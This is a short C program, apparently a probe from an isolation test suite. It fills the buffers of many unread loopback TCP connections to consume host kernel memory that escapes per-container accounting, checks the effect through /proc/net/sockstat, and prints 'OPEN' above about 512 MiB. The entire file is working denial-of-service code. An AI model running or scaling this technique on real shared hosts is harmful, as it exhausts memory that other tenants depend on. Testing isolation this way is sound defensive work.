/* Fills the buffers of hundreds of loopback connections that nobody reads: memory of the whole host,
 * which not every kernel charges to anyone. The host's own count of it is told here, too. */
#include "attack.h"
#include <netinet/in.h>
static long pages(void) {
    char line[256];
    long found = -1;
    FILE *file = fopen("/proc/net/sockstat", "r");
    while (file && fgets(line, sizeof line, file)) sscanf(line, "TCP: inuse %*d orphan %*d tw %*d alloc %*d mem %ld", &found);
    if (file) fclose(file);
    return found;
}
static void fill(int fd) {
    static char block[1 << 16];
    int wide = 64 << 20;
    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &wide, sizeof wide);
    fcntl(fd, F_SETFL, O_NONBLOCK);
    while (send(fd, block, sizeof block, MSG_NOSIGNAL) > 0) continue;
}
int main(void) {
    long before = pages(), worst = 0;
    struct sockaddr_in at = {AF_INET, 0, {htonl(INADDR_LOOPBACK)}, {0}};
    socklen_t size = sizeof at;
    int wide = 64 << 20, server = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(server, SOL_SOCKET, SO_RCVBUF, &wide, sizeof wide);
    bind(server, (struct sockaddr *)&at, sizeof at);
    listen(server, 1000);
    getsockname(server, (struct sockaddr *)&at, &size);
    for (int n = 0; n < 120; n++) {
        int client = socket(AF_INET, SOCK_STREAM, 0);
        fcntl(client, F_SETFL, O_NONBLOCK);
        connect(client, (struct sockaddr *)&at, sizeof at);
        fill(client);
        if (pages() - before > worst) worst = pages() - before;
        if (worst > 128L << 10) break;
    }
    if (worst > 128L << 10) printf("OPEN %ld MiB of the host's memory\n", worst >> 8);
    printf("%ld MiB\n", worst >> 8);
    return done();
}
